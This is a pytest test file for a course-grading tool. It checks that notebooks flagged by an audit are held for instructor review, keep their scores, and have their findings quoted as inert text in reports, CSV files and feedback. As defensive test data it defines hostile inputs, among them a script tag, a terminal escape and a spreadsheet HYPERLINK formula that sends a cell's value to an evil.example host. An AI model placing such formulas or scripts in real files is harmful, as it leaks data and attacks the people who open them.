"""Notebooks held for the instructor's review (issue 17, item 1): a finding the audit is unsure of keeps the scores,
is quoted in the table, grades.csv, the class report and (without accusing) the student's feedback, and is
cleared or confirmed with one command that a regrade and `--report` keep. Student text stays inert everywhere.

The findings are injected into the real worker's judge (review_worker.py), so the notebook goes through the real
kernels, judge, nbgrader, gradebook and feedback; one test grades a cell the audit itself must hold (audit_review).
"""

from __future__ import annotations

import csv
import json
import sys
from dataclasses import asdict
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from course_grader import gradebook, inert, pipeline, reviews, workers
from course_grader.__main__ import main
from course_grader.autograde import Result
from course_grader.class_report import paths
from course_grader.judging import REVIEW_KEY, REVIEW_NOTE, JudgeVerdicts
from course_grader.pipeline import Options, run
from course_grader.report import Row, table, write_csv
from course_judge import NotebookVerdicts, Verdict, is_test
from course_mutation import demo
from demo_class import LIMITS, points_per_test
from hostile import notebook
from submissions import csv_cells, release_and_source

HELD, OTHER = "Q1_bn_learns_and_measures", "Q2_bn_pros_and_cons"
SCRIPT = '<script>alert("feedback")</script>'
ESCAPE = "\x1b[31m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# What a hostile submission could make the audit quote: markup, a terminal escape, a spreadsheet formula.
FINDINGS = [f"reads a frame object (cell 5, line 2: f = sys._getframe() # {SCRIPT} {ESCAPE}red)", FORMULA]
OTHER_FINDING = "writes to an attribute of a frame object (cell 6, line 1: f.f_trace = None)"
AUDIT_CELL = "import sys\nframe = sys._getframe()\nprint(frame.f_code.co_name)\n"


def _solved(course: Path, name: str) -> nbformat.NotebookNode:
    """The release notebook `name` with the instructor's solutions and a student's written answers (demo.solve)."""
    return notebook(*release_and_source(course), name, "ref")


def _class(folder: Path, student: str, notebooks: dict[str, nbformat.NotebookNode]) -> Path:
    """A real class (--class) of one student."""
    inbox = folder / student / demo.ASSIGNMENT
    inbox.mkdir(parents=True)
    for name, nb in notebooks.items():
        nbformat.write(nb, inbox / f"{name}.ipynb")
    return folder


def _grade(course: Path, klass: Path, findings: Path | None, csv_path: Path, notebooks: list[str]):
    """Grade the class; with `findings`, each worker's judge adds them (review_worker.py)."""
    with pytest.MonkeyPatch.context() as mp:
        if findings:
            mp.setattr(workers.WorkerProcess, "SERVE",
                       [sys.executable, str(Path(__file__).with_name("review_worker.py")), str(findings), "--serve"])
        return run(Options(root=course, class_dir=klass, jobs=1, notebooks=notebooks, csv=csv_path, **LIMITS))


def _lines(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def held(course, tmp_path_factory):
    """eve's Q1 held with hostile findings, her Q2 not; what the run wrote, read right after it."""
    base = tmp_path_factory.mktemp("review")
    findings = base / "findings.json"
    findings.write_text(json.dumps({HELD: FINDINGS}))
    klass = _class(base / "class", "eve", {name: _solved(course, name) for name in (HELD, OTHER)})
    grades = course / "review.csv"
    outcome = _grade(course, klass, findings, grades, ["Q1", "Q2"])
    html, table_csv = paths(grades)
    return dict(outcome=outcome, findings=findings, klass=klass, grades=grades, course=course,
                grades_text=grades.read_text(), html=html.read_text(), report_csv=table_csv.read_text(),
                report_cells=csv_cells(table_csv), grades_cells=csv_cells(grades),
                feedback={name: (course / "feedback" / "eve" / demo.ASSIGNMENT / f"{name}.html").read_text()
                          for name in (HELD, OTHER)})


def _no_escape(text: str) -> None:
    """No terminal escape sequence (the terminal, the CSV files)."""
    assert ESCAPE not in text and "\x1b" not in text


def _inert_html(page: str) -> None:
    """No escape sequence and no raw tag of the quote: it is shown as text."""
    _no_escape(page)
    assert SCRIPT not in page and "&lt;script&gt;" in page


def test_a_held_notebook_keeps_its_scores_and_is_quoted_in_the_table(held):
    outcome = held["outcome"]
    row = outcome.rows[0]
    assert outcome.results["eve"].review == {HELD: FINDINGS}  # travelled from the judge as data
    assert row.status == "review" and set(row.held) == {"Q1"} and not row.confirmed
    points = points_per_test(held["course"])[HELD]
    assert outcome.scores["eve"][HELD].tests == points  # the reference solution: its scores stand while held
    printed = table(outcome.rows)
    _no_escape(printed)
    assert "review" in printed.splitlines()[2] and "Held for review" in printed
    assert inert.plain(FINDINGS[0]) in printed and "--review-clear eve:Q1" in printed
    assert "--review-confirm eve:Q1" in printed


def test_grades_csv_says_review_with_the_quote_and_no_formula(held):
    (line,) = _lines(held["grades"])
    assert line["status"] == "review"
    assert f"held for review: Q1: {inert.plain(FINDINGS[0])}" in line["reasons"]
    assert f"held for review: Q1: {FORMULA}" in line["reasons"]
    _no_escape(held["grades_text"])
    assert not any(cell.startswith(inert.FORMULA) for cell in held["grades_cells"])


def test_the_class_report_shows_the_quote_and_the_commands(held):
    page = held["html"]
    _inert_html(page)
    assert "Held for review" in page
    assert "--review-clear eve:Q1" in page and "--review-confirm eve:Q1" in page
    rows = [r for r in csv.DictReader(held["report_csv"].splitlines()) if r["section"] == "review"]
    assert [(r["question"], r["item"]) for r in rows] == [("Q1", "eve")] * len(FINDINGS)
    assert all("--review-confirm eve:Q1" in r["detail"] for r in rows)
    assert "'" + FORMULA in [r["students"] for r in rows]  # the formula quoted as text
    assert not any(cell.startswith(inert.FORMULA) for cell in held["report_cells"])
    attention = [r for r in csv.DictReader(held["report_csv"].splitlines()) if r["section"] == "attention"]
    assert [(r["item"], r["detail"]) for r in attention] == [("eve", "review")]


def test_the_feedback_says_what_was_found_without_accusing(held):
    page = held["feedback"][HELD]
    intro = REVIEW_NOTE.split("{found}")
    assert intro[0] in page and "your scores below stand unless they decide otherwise" in page
    _inert_html(page)
    assert "sys._getframe()" in page
    assert not any(word in page.lower() for word in ("tamper", "cheat", "no points"))
    assert intro[0] not in held["feedback"][OTHER]  # only the held notebook carries the note


def test_clear_and_confirm_are_kept_by_report_and_regrade(held, capsys):
    course, grades = held["course"], held["grades"]
    url = gradebook.default_db_url(course)
    before = gradebook.scores(url, ["eve"])["eve"]
    cli = ["--root", str(course), "--csv", str(grades)]

    assert main([*cli, "--review-confirm", "eve:Q1"]) == 0
    printed = capsys.readouterr().out
    assert "confirmed after review" in printed and "Held for review" not in printed
    _confirmed(url, before, grades)
    assert main([*cli, "--report"]) == 0  # the class report rebuilt: still confirmed
    assert "confirmed" in paths(grades)[0].read_text() and "--review-confirm eve:Q1" not in paths(grades)[0].read_text()
    again = _grade(course, held["klass"], held["findings"], grades, ["Q1"])  # the same findings: the decision stands
    assert again.rows[0].status == "attention" and set(again.rows[0].confirmed) == {"Q1"}
    _confirmed(url, before, grades)

    assert main([*cli, "--review-clear", "eve:Q1"]) == 0
    assert "Held for review" not in capsys.readouterr().out
    after = gradebook.scores(url, ["eve"])["eve"]
    assert after[HELD].tests == before[HELD].tests and after[OTHER].tests == before[OTHER].tests
    (line,) = _lines(grades)
    assert line["status"] in ("ok", "attention") and "review" not in line["reasons"] and line["Q1"] == f"{before[HELD].score:g}"
    assert main([*cli, "--report"]) == 0
    state = reviews.Reviews.load(course).students["eve"].notebooks[HELD]
    assert state.decision == "cleared" and state.findings == [inert.plain(f) for f in FINDINGS]

    # A regrade that finds something else holds the notebook again, and undoes a confirmation's zeros.
    assert main([*cli, "--review-confirm", "eve:Q1"]) == 0
    _confirmed(url, before, grades)
    held["findings"].write_text(json.dumps({HELD: [OTHER_FINDING]}))
    try:
        changed = _grade(course, held["klass"], held["findings"], grades, ["Q1"])
    finally:
        held["findings"].write_text(json.dumps({HELD: FINDINGS}))
    assert changed.rows[0].status == "review" and changed.rows[0].held == {"Q1": [OTHER_FINDING]}
    assert gradebook.scores(url, ["eve"])["eve"][HELD].tests == before[HELD].tests


def _confirmed(url: str, before: dict, grades: Path) -> None:
    """eve's Q1 tests score 0 as nbgrader's manual score; her Q1 written answers and her Q2 are untouched."""
    now = gradebook.scores(url, ["eve"])["eve"]
    assert before[HELD].tests and all(v > 0 for v in before[HELD].tests.values())
    assert now[HELD].tests == dict.fromkeys(before[HELD].tests, 0.0)
    assert now[OTHER].tests == before[OTHER].tests and now[OTHER].score == before[OTHER].score
    with Gradebook(url) as gb:
        notebook = gb.find_submission_notebook(HELD, demo.ASSIGNMENT, "eve")
        manual = {g.name: g.manual_score for g in notebook.grades}
        written = [g.name for g in notebook.grades if g.cell_type != "code"]
        assert notebook.score == before[HELD].score - sum(before[HELD].tests.values())  # nbgrader's own total
    assert all(manual[t] == 0 for t in before[HELD].tests) and all(manual[w] is None for w in written)
    (line,) = _lines(grades)
    assert line["status"] == "attention" and "Q1: confirmed after review" in line["reasons"]
    assert line["Q1"] == f"{now[HELD].score:g}"


def test_deciding_what_is_not_held_says_so_and_changes_nothing(held, capsys):
    course = held["course"]
    state = (course / reviews.FILE).read_text()
    for spec in ("eve:Q2", "nobody:Q1", "eve", "eve:Q1:Q3"):
        assert main(["--root", str(course), "--csv", str(held["grades"]), "--review-clear", "eve:Q1",
                     "--review-confirm", spec]) == 2, spec
        assert "not held for review" in capsys.readouterr().err or ":" not in spec
    assert (course / reviews.FILE).read_text() == state  # all or nothing: eve:Q1 was not cleared either


@pytest.mark.audit_review
def test_the_audit_holds_a_cell_that_reads_a_frame(course, tmp_path):
    """End to end with the real audit: reading a frame object is something it does not judge by itself."""
    nb = _solved(course, HELD)
    first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution")
                 and c.cell_type == "code")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(AUDIT_CELL))
    outcome = _grade(course, _class(tmp_path / "class", "frank", {HELD: nb}), None, course / "review-audit.csv",
                     ["Q1"])
    row = outcome.rows[0]
    assert row.status == "review", (row.status, row.why)
    assert any("frame = sys._getframe()" in f for f in outcome.results["frank"].review[HELD])
    assert outcome.scores["frank"][HELD].tests == points_per_test(course)[HELD]  # the scores stand
    page = (course / "feedback" / "frank" / demo.ASSIGNMENT / f"{HELD}.html").read_text()
    assert REVIEW_NOTE.split("{found}")[0] in page


def test_the_judges_findings_are_written_as_data_and_a_forged_key_is_dropped(course, tmp_path, monkeypatch):
    import course_grader.judging as judging

    nb = _solved(course, HELD)
    nb.metadata[REVIEW_KEY] = ["forged by the student"]
    tests = [c.metadata.nbgrader["grade_id"] for c in nb.cells if is_test(c)]
    found: list[str] = []
    monkeypatch.setattr(judging, "judge_notebook", lambda *a: NotebookVerdicts(
        {t: Verdict(t, True) for t in tests}, review=list(found)))
    report = tmp_path / "cells.jsonl"
    judge = JudgeVerdicts(release_dir=str(course / "release" / demo.ASSIGNMENT), report_file=str(report))
    out, _ = judge.preprocess(nbformat.from_dict(nb), {"unique_key": f"eve/{HELD}"})
    assert REVIEW_KEY not in out.metadata  # nothing found: nothing held, nothing said (the record has its time alone)
    assert [(r["judge"], r["review"]) for r in map(json.loads, report.read_text().splitlines())] == [([], [])]
    report.unlink()
    found += FINDINGS
    out, _ = judge.preprocess(nbformat.from_dict(nb), {"unique_key": f"eve/{HELD}"})
    assert out.metadata[REVIEW_KEY] == FINDINGS
    (line,) = [json.loads(x) for x in report.read_text().splitlines()]
    assert set(line.pop("phases")) == {"judge"}  # the judge's seconds (the bench's budget)
    assert line == {"notebook": HELD, "judge": [], "review": FINDINGS}


def test_findings_travel_as_data_through_a_result_and_combine():
    """result.json (local workers) and a Dask task's answer are the Result as JSON data; parts combine."""
    part = Result("eve", graded=[HELD], review={HELD: FINDINGS})
    back = Result(**json.loads(json.dumps(asdict(part))))
    assert back.review == {HELD: FINDINGS}
    other = Result("eve", graded=[OTHER])
    assert pipeline._combine("eve", [back, other], [HELD, OTHER]).review == {HELD: FINDINGS}


def test_status_priority_and_inert_text(tmp_path):
    row = Row("x", held={"Q1": ["a"]}, reasons=["Q2: manual grading pending"], not_graded={"Q3": "no kernel"})
    assert row.status == "not graded"
    row.not_graded = {}
    assert row.status == "review"
    row.held, row.confirmed = {}, {"Q1": ["a"]}
    assert row.status == "attention"
    assert Row("x").status == "ok"
    hostile = Row(FORMULA, scores={"Q1": 1.0}, total=1.0, max_total=7.0, held={"Q1": [f"{ESCAPE}\u202e{SCRIPT}"]})
    write_csv([hostile], tmp_path / "g.csv")
    assert not any(cell.startswith(inert.FORMULA) for cell in csv_cells(tmp_path / "g.csv"))
    printed = table([hostile])
    assert "\x1b" not in printed and "\u202e" not in printed
    assert len(inert.plain("x" * 10_000)) == inert.LIMIT
    assert "<" not in inert.markdown(SCRIPT).replace("\\<", "")
